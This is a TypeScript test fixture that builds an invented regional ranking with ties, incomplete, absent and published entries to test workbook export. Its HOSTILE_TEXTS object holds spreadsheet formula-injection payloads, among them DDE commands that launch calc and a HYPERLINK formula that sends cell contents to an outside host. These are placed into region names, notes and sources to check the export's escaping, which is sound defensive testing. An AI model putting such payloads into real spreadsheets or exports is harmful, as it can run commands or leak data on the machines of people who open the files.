/**
 * A ranking with everything that a workbook has to cope with: ties, an index exactly on a bound, an incomplete
 * region, absent ones, published results, the province's own row, and texts that would like to be formulas.
 * All names and figures are invented.
 */
import { effectiveValues, STAGES, type Stage, type StageValues } from '../../shared/assessment/stages.ts';
import type { Ranking } from '../../shared/contract/ranking.ts';
import type { Instrument } from '../../shared/instrument/instrument.ts';
import type { Hundredths } from '../../shared/instrument/levels.ts';
import { buildRanking } from '../../shared/ranking/build-ranking.ts';
import {
  regionResult,
  type PublishedResult,
  type RegionAssessment,
} from '../../shared/ranking/region-result.ts';
import type { BandRule } from '../../shared/scoring/predikat.ts';

type Levels = ReadonlyMap<string, Hundredths>;

export interface RankingExample {
  readonly ranking: Ranking;
  readonly instrument: Instrument;
  readonly levels: Map<string, Levels>;
}

/** Texts that become formulas, commands or other text when they are written carelessly. */
export const HOSTILE_TEXTS = {
  region: '=HYPERLINK("http://contoh.invalid/?"&A1,"Kabupaten Baris")',
  command: "+cmd|' /C calc'!A0",
  source: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  carriageReturn: '\r-2+3',
  escaped: '_x003D_1+1',
  behindSeparator: 'Catatan;=1+1',
} as const;

/**
 * Small enough to check by hand, with weights that are fractions and a name that holds a footer's code sign.
 * Indicators 1 and 2 weigh 30 each; 3-1, 3-2 and 3-3 weigh 40/3 each.
 */
export const tinyInstrument: Instrument = {
  id: 'kecil',
  version: 2,
  name: 'Instrumen kecil',
  shortName: 'kecil',
  regulation: 'Peraturan Uji 1/2020 & lampirannya',
  years: { from: 2018, to: null },
  criteriaAreDraft: true,
  scale: { min: 0, max: 5, decimals: 0 },
  levelNames: {},
  bands: [
    { predikat: 'Kurang', from: '0' },
    { predikat: 'Cukup', from: '1.8' },
    { predikat: 'Baik', from: '2.6' },
    { predikat: 'Sangat Baik', from: '3.5' },
    { predikat: 'Memuaskan', from: '4.2' },
  ],
  target: '2.60',
  domains: [
    { id: '1', name: 'Domain satu', shortName: 'Satu', weight: '60' },
    { id: '2', name: 'Domain dua', shortName: 'Dua', weight: '40' },
  ],
  aspects: [
    { id: '1', domain: '1', name: 'Aspek satu', shortName: 'A1', weight: '60' },
    { id: '2', domain: '2', name: 'Aspek dua', shortName: 'A2', weight: '40' },
  ],
  indicators: [
    ...['1', '2'].map((id) => tinyIndicator(id, '1', '30')),
    ...['3-1', '3-2', '3-3'].map((id) => tinyIndicator(id, '2', '40/3')),
  ],
};

function tinyIndicator(id: string, aspect: string, weight: string): Instrument['indicators'][number] {
  return {
    id,
    aspect,
    name: `Indikator ${id}`,
    shortName: `Indikator ${id}`,
    weight,
    question: '?',
    levelNames: 'proses',
    criteria: {},
    source: '–',
  };
}

/** A level for every indicator, from the lowest to the highest, by position and a number of one's own. */
export function patternLevels(instrument: Instrument, seed: number): Map<string, Hundredths> {
  const { min, max, decimals } = instrument.scale;
  return new Map(
    instrument.indicators.map(({ id }, position) => {
      const whole = min + ((position * 7 + seed * 3) % (max - min + 1));
      const rest = decimals === 2 && whole < max ? (position * 37 + seed * 11) % 100 : 0;
      return [id, whole * 100 + rest];
    }),
  );
}

/** The same level everywhere, but for some. */
export function levelsExcept(
  instrument: Instrument,
  level: number,
  others: Readonly<Record<string, number>> = {},
): Map<string, Hundredths> {
  return new Map(instrument.indicators.map(({ id }) => [id, Math.round((others[id] ?? level) * 100)]));
}

/** Two indicators of equal weight: exchanging their levels makes a true tie of different worksheets. */
function twins(instrument: Instrument): [string, string] {
  for (const one of instrument.indicators) {
    const other = instrument.indicators.find(
      (candidate) => candidate.id !== one.id && candidate.weight === one.weight,
    );
    if (other) return [one.id, other.id];
  }
  throw new Error(`instrument ${instrument.id} has no two indicators of equal weight`);
}

const STAGE: Stage = STAGES[2];

interface Given {
  readonly code: string;
  readonly name: string;
  readonly levels?: Levels;
  readonly published?: Partial<PublishedResult>;
  readonly absent?: boolean;
}

function assessment({ code, name, levels, published, absent = false }: Given): RegionAssessment {
  const stages: StageValues = levels ? { [STAGE]: levels } : {};
  return {
    region: { code, name },
    participation: absent ? 'tidak-mengikuti' : 'ikut',
    participationReason: absent ? 'Tidak bersedia' : '',
    stages,
    published: published
      ? {
          index: null,
          predikat: null,
          domains: new Map(),
          source: 'Keputusan uji 1',
          sourceKind: 'keputusan',
          note: null,
          sample: false,
          ...published,
        }
      : null,
  };
}

export interface ExampleOptions {
  readonly rule?: BandRule;
  /** More regions, or others of the same code. */
  readonly more?: readonly Given[];
  readonly withProvince?: boolean;
}

export function rankingExample(instrument: Instrument, options: ExampleOptions = {}): RankingExample {
  const [one, other] = twins(instrument);
  const incomplete = patternLevels(instrument, 3);
  incomplete.delete(instrument.indicators[0]?.id ?? '');
  const parts = instrument.domains.length > 0 ? instrument.domains : instrument.aspects;
  const given: Given[] = [
    { code: '90.01', name: 'Kabupaten Arus', levels: patternLevels(instrument, 1) },
    { code: '90.02', name: 'Kabupaten Bukit', levels: patternLevels(instrument, 2) },
    { code: '90.03', name: 'Kabupaten Danau', levels: levelsExcept(instrument, 2, { [one]: 3 }) },
    { code: '90.04', name: 'Kabupaten Embun', levels: levelsExcept(instrument, 2, { [other]: 3 }) },
    { code: '90.05', name: 'Kabupaten Fajar', levels: levelsExcept(instrument, 5) },
    { code: '90.06', name: 'Kabupaten Gunung', levels: incomplete },
    { code: '90.07', name: 'Kabupaten Hutan', absent: true },
    { code: '90.08', name: 'Kota Intan' },
    {
      code: '90.09',
      name: 'Kota Jaya',
      published: {
        index: 231,
        predikat: 'Cukup',
        note: 'Laporan publik menyebut “Jaya” tanpa jenis daerahnya',
        domains: new Map(parts.map(({ id }, position) => [id, 200 + position])),
        sample: true,
      },
    },
    { code: '90.10', name: 'Kota Karang', published: { predikat: 'Baik', source: 'Berita uji 2' } },
    {
      code: '90.11',
      name: HOSTILE_TEXTS.region,
      published: { index: 185, note: HOSTILE_TEXTS.command, source: HOSTILE_TEXTS.source },
    },
    {
      code: '90.12',
      name: HOSTILE_TEXTS.tab,
      published: { index: 160, note: HOSTILE_TEXTS.escaped, source: HOSTILE_TEXTS.carriageReturn },
    },
    {
      code: '90.13',
      name: HOSTILE_TEXTS.escaped,
      published: { predikat: 'Cukup', note: HOSTILE_TEXTS.behindSeparator },
    },
    {
      code: '90.14',
      name: 'Kota Lembah',
      // A decree may have seen more digits than it prints.
      published: { index: 260, predikat: 'Cukup', source: 'Keputusan uji 3' },
    },
    ...(options.more ?? []),
  ];
  const regions = given.map(assessment);
  const province = assessment({
    code: '90',
    name: 'Pemerintah Provinsi Contoh',
    levels: levelsExcept(instrument, 3, { [one]: 4 }),
  });
  const withProvince = options.withProvince ?? true;
  const rule = options.rule ?? 'exact';
  const ranking = buildRanking({
    instrument,
    year: 2022,
    stage: null,
    scope: 'kabkota',
    rule,
    regions,
    before: [],
    province: withProvince ? province : null,
    publishedDistribution: {
      counts: { Baik: 2, Cukup: 11, Kurang: 8, 'tidak-mengikuti': 1 },
      source: HOSTILE_TEXTS.command,
      sample: false,
    },
  });
  const levels = new Map<string, Levels>();
  for (const region of [...regions, province]) {
    const result = regionResult(instrument, region, null, rule);
    if (result.basis !== 'levels' || !result.stage) continue;
    levels.set(region.region.code, effectiveValues(region.stages, result.stage));
  }
  return { ranking, instrument, levels };
}
